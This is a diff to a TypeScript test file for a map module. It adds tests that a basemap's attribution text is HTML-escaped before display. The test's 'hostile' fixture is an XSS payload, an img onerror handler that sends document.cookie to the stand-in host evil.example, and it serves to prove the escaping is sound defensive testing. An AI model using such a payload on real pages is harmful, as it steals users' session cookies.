@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { hull, isTileTemplate, mapStyle, outline, placeLabels, type Marker } from "./map";
+import { htmlText, hull, isTileTemplate, mapStyle, outline, placeLabels, type Marker } from "./map";
 
 const view = { width: 800, height: 600 };
 const marker = (id: string, x: number, y: number, width = 100): Marker => ({ id, x, y, r: 14, width, height: 20 });
@@ -81,5 +81,28 @@ describe("the map's style", () => {
     expect(isTileTemplate("https://tile.openstreetmap.org/{z}/{x}/{y}.png")).toBe(true);
     expect(isTileTemplate("https://tile.openstreetmap.org/{z}/{x}.png")).toBe(false);
     expect(isTileTemplate("javascript:{z}{x}{y}")).toBe(false);
+  });
+});
+
+/** What a browser shows for `html` (character references resolved), or null where the
+ * HTML would hold an element: the test's stand-in for setting it as innerHTML. */
+function shownText(html: string): string | null {
+  if (/<[a-zA-Z!/?]/.test(html)) return null;
+  return html.replace(/&#(\d+);|&(amp|lt|gt|quot|apos);/g, (_, code: string | undefined, name: string | undefined) =>
+    code ? String.fromCharCode(Number(code)) : ({ amp: "&", lt: "<", gt: ">", quot: '"', apos: "'" } as Record<string, string>)[name!]!,
+  );
+}
+
+describe("a basemap's attribution", () => {
+  const hostile = `<img src=x onerror="fetch('https://evil.example/'+document.cookie)"> © Lantmäteriet & "OSM"`;
+  it("is rendered as text: markup in it is shown, never made an element", () => {
+    const style = mapStyle({ tiles: "basemap://localhost/{z}/{x}/{y}", attribution: hostile }, { background: "#fff", area: "#333" }, []);
+    const attribution = (style.sources.basemap as { attribution?: string }).attribution!;
+    expect(attribution, "the control sets it as HTML: no tag may survive").not.toMatch(/</);
+    expect(shownText(attribution), "the reader sees exactly what the file says").toBe(hostile);
+  });
+  it("keeps plain text as it is", () => {
+    expect(htmlText("© Lantmäteriet")).toBe("© Lantmäteriet");
+    expect(shownText(htmlText("a < b && c > d"))).toBe("a < b && c > d");
   });
 });
